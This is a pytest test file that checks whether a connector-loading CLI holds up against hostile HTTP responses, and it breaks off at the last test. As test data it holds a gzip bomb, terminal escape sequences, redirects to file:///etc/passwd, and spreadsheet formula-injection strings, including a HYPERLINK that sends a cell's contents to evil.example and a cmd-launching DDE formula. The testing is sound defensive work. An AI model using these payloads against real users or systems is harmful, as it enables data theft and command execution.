"""
Whatever a server answers: bounded memory and time, a sentence for the row, no second create, no key anywhere else, and
the right exit code. Each answer is given to a create, to the list before it, and to `connload list`.
"""

import gzip
import itertools
import json
import re
import time
from email.utils import formatdate

import pytest

from conftest import KEY, Close, Pause, Reset, api_answer, connector_of, http_answer
from hostile import Store, measured, posts

QUICK = ["--settle", "50ms", "--timeout", "500ms", "--retry-base", "1ms", "--retry-cap", "2ms", "--rate", "none"]
HEAD = b"HTTP/1.1 200 OK\r\n"
ID = "3f2b8c64-5a0e-4e37-9d5b-0c8f1f5f7a11"
MIB = 1 << 20


def for_ever(head, piece):
    return itertools.chain([head], itertools.repeat(piece))


def trickle(head, piece, pause=0.02):
    yield head
    while True:
        yield piece
        yield Pause(pause)


def sized(body, length=None, extra=b""):
    return HEAD + extra + b"Content-Length: %d\r\n\r\n" % (len(body) if length is None else length) + body


def chunked(*pieces):
    return HEAD + b"Transfer-Encoding: chunked\r\n\r\n" + b"".join(pieces)


def hundred_mib():
    """One JSON text of 100 MiB, as an element of a list and as a connector alike."""
    yield HEAD + b"Content-Length: %d\r\n\r\n" % (100 * MIB)
    yield b'{"connector_id": "' + ID.encode() + b'", "results": [{"label": "'
    for _ in range(100):
        yield b"x" * MIB


# Answers that tell nothing, to a POST and to a GET alike; the create behind them has happened.
LOST = {
    "endless-body": lambda: for_ever(HEAD + b"\r\n", b"x" * 65536),
    "endless-spaces": lambda: for_ever(HEAD + b"\r\n", b" " * 65536),
    "endless-string": lambda: for_ever(HEAD + b'\r\n{"results": [{"connector_id": "', b"x" * 65536),
    "endless-chunks": lambda: for_ever(HEAD + b"Transfer-Encoding: chunked\r\n\r\n", b"10000\r\n" + b"x" * 65536 + b"\r\n"),
    "endless-chunk-extension": lambda: for_ever(HEAD + b"Transfer-Encoding: chunked\r\n\r\n2;", b"x=y;" * 16384),
    "endless-trailers": lambda: for_ever(HEAD + b"Transfer-Encoding: chunked\r\n\r\n0\r\n", b"X-Trailer: filler\r\n" * 1000),
    "100-mib-of-json": hundred_mib,
    "deep-arrays": lambda: sized(b"[" * 1000000),
    "deep-objects": lambda: sized(b'{"results":' * 90000),
    "deep-in-a-list": lambda: sized(b'{"results": [' + b'{"config":' * 90000),
    "html": lambda: http_answer(200, "<!DOCTYPE html><html><body>Welcome to the hotel's WiFi</body></html>"),
    "nothing": lambda: sized(b""),
    "null": lambda: sized(b"null"),
    "a-number": lambda: sized(b"1" * 5000),
    "a-text": lambda: sized(b'"' + ID.encode() + b'"'),
    "an-array": lambda: sized(b'["' + ID.encode() + b'"]'),
    "not-utf-8": lambda: sized(b'{"connector_id": "\xff\xfe\xc0\xaf", "results": "\xed\xa0\x80"}'),
    "nul-bytes": lambda: sized(b'{"connector_id"\0: "\0", "results": \0}'),
    "nothing-but-nul": lambda: sized(bytes(100000)),
    "cut-json": lambda: sized(b'{"connector_id": "' + ID.encode() + b'", "results": [{'),
    "lone-surrogate": lambda: sized(b'{"connector_id": "\\ud800", "results": "\\udfff\\u0000"}'),
    "huge-number": lambda: sized(b'{"connector_id": 1e999999, "results": -1e-99999999999}'),
    "two-texts": lambda: sized(b'{"connector_id": 1}{"results": []}'),
    "endless-headers": lambda: for_ever(HEAD, b"X-Filler: abcdefghijklmnopqrstuvwxyz\r\n" * 1000),
    "endless-header": lambda: for_ever(HEAD + b"X-Filler: ", b"x" * 65536),
    "endless-status-line": lambda: for_ever(b"HTTP/1.1 200 ", b"OK" * 32768),
    "endless-folded-header": lambda: for_ever(HEAD + b"X-Filler: a\r\n", b" folded\r\n" * 5000),
    "flood-of-100": lambda: for_ever(b"", b"HTTP/1.1 100 Continue\r\n\r\n" * 1000),
    "flood-of-103": lambda: for_ever(b"", b"HTTP/1.1 103 Early Hints\r\nLink: </a>; rel=preload\r\n\r\n" * 1000),
    "trickling-header": lambda: trickle(HEAD, b"X-Slow: x\r\n"),
    "trickling-body": lambda: trickle(HEAD + b"Content-Length: 1000000\r\n\r\n", b" "),
    "trickling-1xx": lambda: trickle(b"", b"HTTP/1.1 102 Processing\r\n\r\n"),
    "length-too-large": lambda: Close(sized(b'{"results": []', 100)),
    "length-too-large-and-open": lambda: trickle(sized(b'{"results": []}', 100), b""),
    "length-too-small": lambda: sized(b'{"connector_id": "' + ID.encode() + b'", "results": []}', 30),
    "length-negative": lambda: sized(b'{"results": []}', -1),
    "length-huge": lambda: Close(HEAD + b"Content-Length: 99999999999999999999999\r\n\r\n{}"),
    "lengths-that-differ": lambda: Close(HEAD + b"Content-Length: 2\r\nContent-Length: 40\r\n\r\n{}"),
    "chunk-of-garbage": lambda: Close(chunked(b"zz\r\n{}\r\n0\r\n\r\n")),
    "chunk-huge": lambda: Close(chunked(b"FFFFFFFFFFFFFFFFF\r\n{}")),
    "chunk-negative": lambda: Close(chunked(b"-1\r\n{}\r\n0\r\n\r\n")),
    "chunks-cut": lambda: Close(chunked(b"2\r\n{}\r\n")),
    "gzip": lambda: sized(gzip.compress(b'{"results": []}'), extra=b"Content-Encoding: gzip\r\n"),
    "gzip-bomb": lambda: sized(gzip.compress(bytes(50 * MIB)), extra=b"Content-Encoding: gzip\r\n"),
    "http-0.9": lambda: Close(b'{"results": []}'),
    "http-9.9": lambda: Close(b"HTTP/9.9 200 OK\r\n\r\n"),
    "status-of-letters": lambda: Close(b"HTTP/1.1 two hundred\r\n\r\n{}"),
    "nul-in-a-header": lambda: Close(HEAD + b"X-Evil: \0\r\nContent-Length: 2\r\n\r\n{}"),
    "switching-protocols": lambda: Close(b"HTTP/1.1 101 Switching Protocols\r\nUpgrade: websocket\r\n\r\n"),
    "nothing-at-all": lambda: Close(b""),
    "reset": lambda: Reset(b"HTTP/1.1 200 OK\r\n"),
    "204": lambda: b"HTTP/1.1 204 No Content\r\n\r\n",
    "205": lambda: b"HTTP/1.1 205 Reset Content\r\nContent-Length: 0\r\n\r\n",
    "299": lambda: http_answer(299, {"results": None}),
    "500": lambda: http_answer(500, {"errors": [{"message": None}, [], "x", {"message": {"message": []}}]}),
    "502-of-a-gateway": lambda: http_answer(502, "<html><title>" + "502 " * 100000),
}


@pytest.mark.parametrize("name", LOST)
def test_a_create_whose_answer_tells_nothing_is_settled(raw_server, desk, read_csv, tmp_path, name):
    """The list shows that it was created: one POST, its id, exit 0."""
    store = Store(post=lambda store, exchange, connector: LOST[name]())
    server = raw_server(store)
    desk(1)
    run = measured(tmp_path, server, "create", "desk.csv", *QUICK)
    assert run.rc == 0, run
    row, = read_csv("desk.results.csv")
    assert (row["status"], row["connector_id"]) == ("created", store.connectors[0]["connector_id"])
    assert len(posts(server)) == 1


@pytest.mark.parametrize("name", LOST)
def test_a_create_whose_answer_tells_nothing_without_a_list_is_unknown(raw_server, desk, read_csv, tmp_path, name):
    """No list can be had: a sentence, one POST, exit 1; and the next run doesn't send it either."""
    store = Store(post=lambda store, exchange, connector: LOST[name](),
                  get=lambda store, exchange, listed: http_answer(404, {"message": "no list"}))
    server = raw_server(store)
    desk(1)
    for args in (["desk.csv"], ["desk.results.csv"]):
        run = measured(tmp_path, server, "create", *args, *QUICK, "--no-preflight")
        assert run.rc == 1, run
        row, = read_csv("desk.results.csv")
        assert row["status"] == "unknown" and row["connector_id"] == ""
        assert 20 < len(row["error_message"]) < 1000 and 'labelled "Desk 0"' in row["error_message"]
        assert len(posts(server)) == 1


# No Content, and results of null, tell of an empty account.
LOST_LISTS = [name for name in LOST if name not in ("204", "299")]


@pytest.mark.parametrize("name", LOST_LISTS)
def test_a_list_that_tells_nothing_stops_before_the_first_create(raw_server, desk, read_csv, tmp_path, name):
    store = Store(get=lambda store, exchange, listed: LOST[name]())
    server = raw_server(store)
    desk(2)
    run = measured(tmp_path, server, "create", "desk.csv", *QUICK, "--max-attempts", "2")
    assert run.rc == 4, run
    assert posts(server) == []
    rows = read_csv("desk.results.csv")
    assert [(row["status"], row["attempts"]) for row in rows] == [("not_attempted", "0")] * 2
    assert all(20 < len(row["error_message"]) < 1000 for row in rows)


@pytest.mark.parametrize("name", LOST_LISTS)
def test_list_of_what_tells_nothing(raw_server, tmp_path, name):
    server = raw_server(Store(get=lambda store, exchange, listed: LOST[name]()))
    run = measured(tmp_path, server, "list", "-o", "account.csv", *QUICK[2:], "--max-attempts", "2")
    assert run.rc == 4, run
    assert run.err.startswith("connload: ") and run.err.count("\n") == 1 and len(run.err) < 1500
    assert list(tmp_path.iterdir()) == []


# -- answers with a connector in them, or nearly --


def members(value):
    """A connector all of whose members but its id are `value`, and one whose id is."""
    names = ["user_id", "org_id", "share_with_org", "label", "type", "created_at", "updated_at", "archived", "description", "config",
             "files_count", "last_sync_at", "last_sync_status", "last_sync_error_msg", "last_sync_count"]
    return {name: value for name in names}


WRONG = {"null": None, "number": 7, "text": "x", "true": True, "array": [[]], "object": {"email": [], "allowed_emails": {}},
         "nested": {"config": {"config": {}}, "email": {"email": 1}, "allowed_emails": [None, 1, [], {}, "a"]}, "huge-text": "x" * 50000,
         "huge-number": 1e300, "empty": ""}


@pytest.mark.parametrize("kind", WRONG)
def test_members_of_the_wrong_type(raw_server, desk, read_csv, tmp_path, kind):
    """The id is all that is needed; what else comes is taken where it is of the right type, and left out where not."""
    def post(store, exchange, connector):
        return http_answer(200, {**members(WRONG[kind]), "connector_id": connector["connector_id"]})

    store = Store(post=post)
    server = raw_server(store)
    desk(2)
    run = measured(tmp_path, server, "create", "desk.csv", *QUICK)
    assert run.rc == 0, run
    rows = read_csv("desk.results.csv")
    assert [row["status"] for row in rows] == ["created"] * 2
    assert sorted(row["connector_id"] for row in rows) == sorted(one["connector_id"] for one in store.connectors)
    assert all(len(row["inbox_email"]) < 400 and len(row["created_at"]) < 400 for row in rows)
    # in a list: no row's look-alike, and nothing that ends the reading
    store.get = lambda store, exchange, listed: http_answer(200, {"results": [
        {**members(WRONG[kind]), "connector_id": connector["connector_id"]} for connector in listed] + [WRONG[kind]]})
    run = measured(tmp_path, server, "list", "-o", "account.csv", *QUICK[2:])
    assert run.rc == 0, run
    assert "1 elements of the account's list are no connectors" in run.err
    assert sorted(row["connector_id"] for row in read_csv("account.csv")) == sorted(one["connector_id"] for one in store.connectors)


@pytest.mark.parametrize("wrong", [None, 7, True, [], {}, "", "x", "3f2b8c64-5a0e-4e37-9d5b-0c8f1f5f7a1", ID + "0", " " + ID, ID + "\n",
                                   "../../" + ID, "3f2b8c64-5a0e-4e37-9d5b-0c8f1f5f7a1/", "=HYPERLINK(\"http://evil.example\")",
                                   "3F2B8C64/5A0E/4E37/9D5B/0C8F1F5F7A11", "\u0663" * 36, [ID], {"id": ID}, "x" * 100000,
                                   "00000000-0000-0000-0000-000000000000"],
                         ids=lambda wrong: repr(wrong)[:40])
def test_an_id_that_is_no_uuid(raw_server, desk, read_csv, tmp_path, wrong):
    """Lost, then settled; the id that is written is the list's."""
    store = Store(post=lambda store, exchange, connector: http_answer(201, {**connector, "connector_id": wrong}))
    server = raw_server(store)
    desk(1)
    run = measured(tmp_path, server, "create", "desk.csv", *QUICK)
    assert run.rc == 0, run
    assert read_csv("desk.results.csv")[0]["connector_id"] == store.connectors[0]["connector_id"]
    assert len(posts(server)) == 1


@pytest.mark.parametrize("upper", [False, True], ids=["same", "upper-case"])
def test_an_id_of_another_row(raw_server, desk, read_csv, tmp_path, upper):
    """Every create is answered with the first one's id: each other row gets its own from the list."""
    def post(store, exchange, connector):
        first = store.connectors[0]["connector_id"]
        if connector["connector_id"] != first:
            server.wait_for_requests(5)  # the list, three rows, and one that took the place of the first
        return http_answer(201, {**connector, "connector_id": first.upper() if upper else first})

    store = Store(post=post)
    server = raw_server(store)
    desk(6)
    run = measured(tmp_path, server, "create", "desk.csv", *QUICK, "--concurrency", "3")
    rows = read_csv("desk.results.csv")
    assert len(posts(server)) == 6 and store.labels() == [f"Desk {n}" for n in range(6)]
    ids = [row["connector_id"].lower() for row in rows if row["status"] == "created"]
    assert len(ids) == len(set(ids)) and run.rc == (0 if len(ids) == 6 else 1)
    by_id = {one["connector_id"]: one["label"] for one in store.connectors}
    assert all(by_id[row["connector_id"].lower()] == row["label"] for row in rows if row["status"] == "created")


def test_an_id_of_an_earlier_runs_row(raw_server, write_csv, read_csv, tmp_path):
    """The answer names a connector that the result file has already."""
    store = Store(post=lambda store, exchange, connector: http_answer(201, {**connector, "connector_id": ID}))
    server = raw_server(store)
    result = ["status", "connector_id", "inbox_email", "http_status", "error_code", "error_message", "attempts", "created_at"]
    write_csv("d.results.csv", ["type", "label", "allowed_emails", *result],
              [["email", "A", "a@example.com", "created", ID, "", "201", "", "", "1", ""],
               ["email", "B", "b@example.com", "", "", "", "", "", "", "", ""]])
    run = measured(tmp_path, server, "create", "d.results.csv", *QUICK)
    assert run.rc == 0, run
    rows = read_csv("d.results.csv")
    assert [row["connector_id"] for row in rows] == [ID, store.connectors[0]["connector_id"]]


# -- redirects: the key goes nowhere else --


@pytest.mark.parametrize("status", [300, 301, 302, 303, 305, 307, 308])
@pytest.mark.parametrize("scheme", ["http", "//", "https", "file", "javascript"])
def test_a_redirect_is_not_followed(raw_server, desk, read_csv, tmp_path, status, scheme):
    other = raw_server()
    there = f"127.0.0.1:{other.port}/contents/v1/connectors"
    location = {"http": f"http://{there}", "//": f"//{there}", "https": f"https://{there}", "file": "file:///etc/passwd",
                "javascript": "javascript:alert(1)"}[scheme]
    store = Store()
    server = raw_server(store)
    desk(1)
    away = http_answer(status, b"", {"Location": location, "Refresh": f"0; url={location}", "Content-Location": location,
                                     "Set-Cookie": "a=b", "Alt-Svc": f'h2="127.0.0.1:{other.port}"'})
    store.post = lambda store, exchange, connector: away
    run = measured(tmp_path, server, "create", "desk.csv", *QUICK)
    assert run.rc == 0, run  # a redirect often follows what was done: the list tells
    row, = read_csv("desk.results.csv")
    assert (row["status"], row["connector_id"]) == ("created", store.connectors[0]["connector_id"])
    assert len(posts(server)) == 1
    store.get = lambda store, exchange, listed: away
    assert measured(tmp_path, server, "list", *QUICK[2:], "--max-attempts", "1").rc == 4
    assert measured(tmp_path, server, "create", "desk.csv", "--force", *QUICK).rc == 4
    assert other.received == [] and other.exchanges == []
    assert all("cookie" not in exchange.headers for exchange in server.exchanges)


# -- lists --


@pytest.mark.slow_asan
@pytest.mark.direct
def test_half_a_million_connectors(sandbox, desk, read_csv, tmp_path):
    """250 MB of list before the first row, in flat memory; with rows that are lost and settled, and `list` itself."""
    box = sandbox("--connectors", "500001", faults={"drop-after": "100:3"})  # 500,000 could be a page
    desk(20)
    long = [*QUICK[:2], "--rate", "none", "--timeout", "60s"]
    run = measured(tmp_path, box, "create", "desk.csv", *long)
    rows = read_csv("desk.results.csv")
    assert run.rc == 0, "; ".join(row["error_message"] for row in rows if row["status"] != "created")
    made = {one["connector_id"]: one["label"] for one in box.connectors()[500001:]}
    assert {row["connector_id"]: row["label"] for row in rows} == made and len(made) == 20
    run = measured(tmp_path, box, "list", "-o", "account.csv", *long[2:])
    assert run.rc == 0, run
    with open(tmp_path / "account.csv", encoding="utf-8") as file:
        assert sum(1 for _ in file) == 1 + 500021


def look_alikes(payload, count):
    """Other people's connectors of the same type and label, nearly the same, or the same and archived."""
    other = {**payload, "config": {"allowed_emails": ["someone-else@example.com"]}}
    kinds = [connector_of(other), connector_of({**payload, "description": "another"}), connector_of({**payload, "share_with_org": True}),
             connector_of(payload, archived=True), connector_of({**payload, "label": payload["label"] + "!"}),
             connector_of({**payload, "label": payload["label"].upper()}), connector_of(payload, org_id="org-2", archived=True),
             connector_of(payload, type="sharepoint", config={})]
    return [{**kind, "connector_id": f"{n:08x}-5a0e-4e37-9d5b-0c8f1f5f7a11"} for n, kind in
            zip(range(count), itertools.cycle(kinds))]


def test_look_alikes_are_nobodys_connector(raw_server, desk, read_csv, tmp_path):
    """They appear after the create was lost, when none of them was there before: the row's own is told apart."""
    def get(store, exchange, listed):
        others = look_alikes(posts(server)[0].json(), 400) if posts(server) else []
        return http_answer(200, {"results": others + listed + others[:10]})

    store = Store(post=lambda store, exchange, connector: Close(b""), get=get)
    server = raw_server(store)
    desk(1)
    run = measured(tmp_path, server, "create", "desk.csv", *QUICK)
    assert run.rc == 0, run
    assert read_csv("desk.results.csv")[0]["connector_id"] == store.connectors[0]["connector_id"]
    assert len(posts(server)) == 1


def test_exact_twins_that_appear_meanwhile_are_ambiguous(raw_server, desk, read_csv, tmp_path):
    """More connectors like the row than the run can have made: nobody can tell, so nobody guesses or sends."""
    def get(store, exchange, listed):
        twins = [connector_of(posts(server)[0].json()) for _ in range(3000)] if posts(server) else []
        return http_answer(200, {"results": listed + twins})

    server = raw_server(Store(post=lambda store, exchange, connector: Close(b""), get=get))
    desk(1)
    run = measured(tmp_path, server, "create", "desk.csv", *QUICK)
    assert run.rc == 1, run
    row, = read_csv("desk.results.csv")
    assert (row["status"], row["error_code"]) == ("unknown", "ambiguous") and len(posts(server)) == 1


@pytest.mark.slow_asan
def test_an_endless_list_of_look_alikes_is_bounded(raw_server, desk, read_csv, tmp_path):
    """Each element is like the row and has an id of its own: what is kept of it must not grow for ever."""
    def endless():
        yield HEAD + b'\r\n{"results": ['
        row = json.dumps(connector_of({"type": "email", "label": "Desk 0", "config": {"allowed_emails": []}},
                                      connector_id="IDIDIDID-5a0e-4e37-9d5b-0c8f1f5f7a11")).encode()
        before, after = row.split(b"IDIDIDID")
        for start in itertools.count(0, 1000):
            yield b"".join(before + b"%08x" % n + after + b"," for n in range(start, start + 1000))

    server = raw_server(Store(get=lambda store, exchange, listed: endless()))
    desk(1)
    run = measured(tmp_path, server, "create", "desk.csv", *QUICK[:2], "--rate", "none", "--timeout", "10s", "--max-attempts", "1")
    assert run.rc == 4, run
    assert posts(server) == []
    assert read_csv("desk.results.csv")[0]["status"] == "not_attempted"


# -- clocks --


@pytest.mark.direct
@pytest.mark.parametrize("offset", ["-26h", "-3h", "3h", "26h", "8000h", "-8000h"])
def test_a_servers_clock_that_is_hours_off(sandbox, desk, read_csv, tmp_path, offset):
    """Nothing of settling or waiting believes that two machines agree on the time."""
    box = sandbox("--clock-offset", offset, "--rate", "40/300ms", "--retry-after", "date",
                  faults={"drop-after": 15, "500-after": 10, "garbage-after": 10})
    desk(60)
    run = measured(tmp_path, box, "create", "desk.csv", *QUICK, "--max-attempts", "20")
    assert run.rc == 0, run
    rows = read_csv("desk.results.csv")
    made = {one["connector_id"]: one["label"] for one in box.connectors()}
    assert {row["connector_id"]: row["label"] for row in rows} == made and len(made) == 60


# -- Retry-After, RateLimit --


def retry_after(value, status=429, **headers):
    return http_answer(status, {"message": "slow down"}, {"Retry-After": value, **headers})


def once_then_well(answer):
    """The first POST gets that answer, and nothing is created; every other request a true one."""
    first = []

    def behave(exchange):
        if exchange.method == "POST" and not first:
            first.append(exchange)
            return answer
        return api_answer(exchange)

    return behave


@pytest.mark.parametrize("status", [429, 503])
@pytest.mark.parametrize("value", ["31536000", "99999999999999999999999999", formatdate(time.time() + 365 * 86400, usegmt=True)],
                         ids=["seconds", "more-than-any-number", "date"])
def test_a_retry_after_of_a_year_ends_the_run(raw_server, desk, read_csv, tmp_path, status, value):
    """Nobody waits that long: the results are written, exit 4, and the sentence says when."""
    server = raw_server(once_then_well(retry_after(value, status)))
    desk(3)
    run = measured(tmp_path, server, "create", "desk.csv", *QUICK, "--concurrency", "1")
    assert run.rc == 4, run
    assert re.search(r"the server asks for no more requests until 20[0-9]{2}-", run.err), run.err
    rows = read_csv("desk.results.csv")
    of_the_row = "failed" if status == 429 else "unknown"  # who answers 503 may have created
    assert {row["status"] for row in rows} <= {"not_attempted", of_the_row} and all(row["error_message"] for row in rows)
    assert len(posts(server)) == 1


@pytest.mark.parametrize("value", ["-1", "-99999999999999999999", "0", "NaN", "inf", "1e9", "0x7fffffff", "1.5", "soon", "", " ", "1 2", "+5",
                                   "١٢", "Thu, 01 Jan 1970 00:00:00 GMT", "Thu, 32 Foo 2026 99:99:99 GMT", "Fri, 31 Dec 9999 23:59:60",
                                   "1; drop table", "\x1b[2J", "1\t", "00000000000000000000000000000000"])
def test_a_retry_after_of_rubbish_is_as_none(raw_server, desk, read_csv, tmp_path, value):
    """The row is sent again after the backoff, and the run goes on."""
    server = raw_server(once_then_well(retry_after(value.encode("utf-8").decode("latin-1"), 429)))
    desk(2)
    run = measured(tmp_path, server, "create", "desk.csv", *QUICK, "--concurrency", "1", timeout=60)
    assert run.rc == 0, run
    assert sorted(row["attempts"] for row in read_csv("desk.results.csv")) == ["1", "2"]


RUBBISH_LIMITS = {
    "negative": {"X-RateLimit-Limit": "-5", "X-RateLimit-Remaining": "-1", "X-RateLimit-Reset": "-1"},
    "huge": {"RateLimit-Limit": "9" * 60, "RateLimit-Remaining": "9" * 60, "RateLimit-Reset": "9" * 60},
    "words": {"RateLimit-Limit": "many", "RateLimit-Remaining": "few", "RateLimit-Reset": "Thu, 01 Jan 1970 00:00:00 GMT"},
    "structured": {"RateLimit": '"a";r=0;t=, =;;=;"', "RateLimit-Policy": '"a";q=0;w=0, "b";q=-1;w=99999999999'},
    "past": {"X-RateLimit-Remaining": "0", "X-RateLimit-Reset": "1"},
    "nul": {"RateLimit-Limit": "", "RateLimit-Remaining": " ", "RateLimit-Reset": ","},
}
FAR_LIMITS = {
    "nothing-left-for-ever": {"RateLimit-Limit": "0", "RateLimit-Remaining": "0", "RateLimit-Reset": "999999999"},
    "structured": {"RateLimit": '"a";r=0;t=99999999'},
    "epoch": {"X-RateLimit-Remaining": "0", "X-RateLimit-Reset": "99999999999"},
}


@pytest.mark.parametrize("kind", RUBBISH_LIMITS)
def test_rate_limit_headers_of_rubbish_hold_nothing_up(raw_server, desk, read_csv, tmp_path, kind):
    """They come with every answer, also with a 429, and a run of ten rows takes no longer for it."""
    def behave(exchange):
        if exchange.index == 3:
            return http_answer(429, "slow", RUBBISH_LIMITS[kind])
        answer = connector_of(exchange.json()) if exchange.method == "POST" else {"results": []}
        return http_answer(200, answer, RUBBISH_LIMITS[kind])

    server = raw_server(behave)
    desk(10)
    run = measured(tmp_path, server, "create", "desk.csv", *QUICK, "--concurrency", "1", timeout=60)
    assert run.rc == 0, run
    assert len(posts(server)) == 11 and {row["status"] for row in read_csv("desk.results.csv")} == {"created"}


@pytest.mark.parametrize("kind", FAR_LIMITS)
def test_a_window_that_never_ends_holds_a_run_up_for_an_hour_at_most(raw_server, desk, read_csv, tmp_path, kind):
    """On a 429 without Retry-After; what is believed of it is shown, and the run's own deadline ends it before."""
    server = raw_server(once_then_well(http_answer(429, "slow", FAR_LIMITS[kind])))
    desk(3)
    run = measured(tmp_path, server, "create", "desk.csv", *QUICK, "--concurrency", "1", "--deadline", "2s", "--grace", "0s")
    assert run.rc == 4 and "deadline" in run.err, run
    assert {row["status"] for row in read_csv("desk.results.csv")} == {"not_attempted"} and len(posts(server)) == 1


# -- a server's texts, where people read them --


EVIL = "\x1b]0;owned\x07\x1b[2J\x1b[31m\u202egnp.exe\x9b1A\x00\x7f\r\nsecond line"


@pytest.mark.parametrize("form", ["json", "html", "detail", "problem"])
def test_terminal_escapes_in_a_servers_text_are_made_harmless(raw_server, desk, read_csv, tmp_path, form):
    bodies = {"json": {"message": EVIL, "errorCode": EVIL}, "html": f"<html><title>{EVIL}</title><body>{EVIL}</body></html>",
              "detail": {"detail": [{"loc": [EVIL, EVIL], "msg": EVIL}]}, "problem": {"title": EVIL, "detail": EVIL, "type": EVIL}}
    server = raw_server(Store(post=lambda store, exchange, connector: http_answer(
        422, bodies[form], {"X-Request-Id": "\x1b[31mred"})))
    desk(1)
    run = measured(tmp_path, server, "create", "desk.csv", *QUICK, "-v", "--log", "log", "--summary", "summary", "--report", "report.html")
    assert run.rc == 1, run
    row, = read_csv("desk.results.csv")
    assert row["status"] == "rejected" and not re.search(r"[\x00-\x08\x0b-\x1f\x7f-\x9f\u202e]", row["error_message"] + row["error_code"])
    for name in ("log", "summary", "report.html"):
        assert not re.search(rb"[\x00-\x08\x0b\x0c\x0e-\x1f\x7f]|\xe2\x80\xae|\xc2[\x80-\x9f]", (tmp_path / name).read_bytes()), name
    # a list that is refused in such words
    server = raw_server([http_answer(403, bodies[form])])
    run = measured(tmp_path, server, "list", *QUICK[2:])
    assert run.rc == 4 and run.err.count("\n") == 1


FORMULAS = ["=HYPERLINK(\"http://evil.example?\"&A1)", "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1+1)", "\t=1", "\r=1", "=1\n=2", " =1"]


@pytest.mark.parametrize("formula", FORMULAS, ids=range(len(FORMULAS)))
def test_formulas_in_a_list_are_no_formulas_in_its_file(raw_server, read_csv, tmp_path, formula):
    payload = {"type": "email", "label": formula, "description": formula, "config": {"allowed_emails": [formula], "email": formula}}
    one = connector_of(payload, created_at=formula, config={"allowed_emails": [formula], "email": formula, "user_id": formula})
    server = raw_server([http_answer(200, {"results": [one]})])
    run = measured(tmp_path, server, "list", "-o", "account.csv", *QUICK[2:])
    assert run.rc == 0, run
    row, = read_csv("account.csv")
    assert all(cell == "" or cell[0] not in "=+-@\t\r" for cell in row.values()), row


# -- undo --


def undo_file(write_csv, count=1):
    result = ["status", "connector_id", "inbox_email", "http_status", "error_code", "error_message", "attempts", "created_at"]
    return write_csv("d.results.csv", ["type", "label", "allowed_emails", *result],
                     [["email", f"D{n}", "a@example.com", "created", f"{n:08}-5a0e-4e37-9d5b-0c8f1f5f7a11", "", "201", "", "", "1", ""]
                      for n in range(count)])


@pytest.mark.parametrize("name", LOST)
def test_an_undo_whose_answer_tells_nothing_archives_nothing(raw_server, write_csv, read_csv, tmp_path, name):
    """`archived` is written only where the API has said so: the row stays `created`, with a sentence, and exit 1."""
    server = raw_server(lambda exchange: LOST[name]())
    undo_file(write_csv)
    run = measured(tmp_path, server, "undo", "--yes", "d.results.csv", *QUICK, "--max-attempts", "2")
    assert run.rc == 1, run
    row, = read_csv("d.results.csv")
    assert row["status"] == "created" and 0 < len(row["error_message"]) < 1000
    assert 1 <= len(server.exchanges) <= 2


@pytest.mark.parametrize("answer", [{"archived": False}, {"connector_id": ID}, {"archived": "true"}, {"archived": None}], ids=str)
def test_an_undo_that_is_answered_with_something_else(raw_server, write_csv, read_csv, tmp_path, answer):
    def behave(exchange):
        one = connector_of({"type": "email", "label": "D0"}, connector_id=exchange.path.rsplit("/", 1)[1], archived=True)
        return http_answer(200, {**one, **answer})

    server = raw_server(behave)
    undo_file(write_csv)
    run = measured(tmp_path, server, "undo", "--yes", "d.results.csv", *QUICK, "--max-attempts", "2")
    assert run.rc == 1, run
    row, = read_csv("d.results.csv")
    assert row["status"] == "created" and row["error_message"]


@pytest.mark.parametrize("ahead", ["", "x"])
def test_a_long_reason_is_cut_between_two_characters(connload, raw_server, desk, tmp_path, ahead):
    """It stands beside every row that was not attempted, and connload reads nothing but UTF-8."""
    server = raw_server(lambda exchange: http_answer(403, {"message": "ü" * 290}))
    desk(2)
    run = connload("create", "desk.csv", "--summary", "run.json",
                   env={"BIGDATA_API_BASE_URL": f"{server.url}/{ahead}{'ü' * 1000}"})
    assert run.rc == 4
    text = (tmp_path / "desk.results.csv").read_bytes().decode()
    assert text.count("ü" * 600) == 2 and "\ufffd" not in text + (tmp_path / "run.json").read_text()
    assert connload("check", "desk.results.csv").rc == 0


def test_a_base_url_of_other_bytes_does_not_make_results_unreadable(connload, raw_server, desk, tmp_path):
    server = raw_server(lambda exchange: http_answer(404, {"message": "no"}))
    desk(1)
    run = connload("create", "desk.csv", "--base-url", f"{server.url}/\udcfc")
    assert run.rc == 4 and "/\\xFC" in run.err
    assert "/\ufffd" in (tmp_path / "desk.results.csv").read_bytes().decode()
    assert connload("check", "desk.results.csv").rc == 0


def test_no_answer_repeats_the_key(raw_server, desk, tmp_path):
    """It may come back in any place of an answer; nothing that leaves the process has it."""
    key = "k3y-" + "x" * 28
    echo = {"message": f"bad key {key}", "errorCode": key, "detail": [{"loc": [key], "msg": key}]}

    def behave(exchange):
        if exchange.method == "GET":
            return http_answer(200, {"results": [connector_of({"type": "email", "label": key, "description": key,
                                                               "config": {"allowed_emails": [key], "email": key}})]})
        return http_answer(422, echo, {"X-Request-Id": key, "X-Api-Key": key}, reason=key)

    server = raw_server(behave)
    assert KEY != key
    desk(2)
    outputs = ["--log", "log", "--summary", "summary", "--report", "report.html", "--metrics", "metrics", "-v"]
    runs = [measured(tmp_path, server, "create", "desk.csv", *QUICK, *outputs, env={"BIGDATA_API_KEY": key}),
            measured(tmp_path, server, "list", "-o", "account.csv", *QUICK[2:], env={"BIGDATA_API_KEY": key})]
    for run in runs:
        assert key not in run.err and key not in run.out
    for path in tmp_path.iterdir():
        assert key.encode() not in path.read_bytes(), path.name


@pytest.mark.direct
@pytest.mark.parametrize("base, says", [
    ("http://127.0.0.1:1", r"could not connect to 127\.0\.0\.1:1: connection refused; asked "),
    ("{url}/contents/v1/connectors", r"the server answered 404: .*; the base URL should be the API's, without /contents/v1/connectors; asked "),
    ("https://127.0.0.1:{port}", r"no TLS connection to .*\S; see that this port of the base URL is for https; asked "),
])
def test_a_server_that_is_not_the_api_is_to_be_mended_first(connload, sandbox, desk, base, says):
    box = sandbox()
    desk(1)
    url = base.format(url=box.url, port=box.url.rpartition(":")[2])
    run = connload("create", "desk.csv", "--base-url", url, "--max-attempts", "1")
    assert run.rc == 4 and re.search(f"^stopped  {says}", run.err, re.M), run.err
    assert "\nnext     mend this first: check --base-url (BIGDATA_API_BASE_URL), DNS, proxy and certificates; then:\n" in run.err


def test_a_status_is_said_once(connload, raw_server, desk):
    raw_server([http_answer(401, "<html><title>401 Authorization Required</title></html>")])
    desk(1)
    run = connload("create", "desk.csv")
    assert run.rc == 4 and "the server answered 401: Authorization Required; the API key is refused" in run.err
    assert "\nnext     mend the key first: " in run.err


def test_an_api_key_file_that_is_not_there(connload, desk):
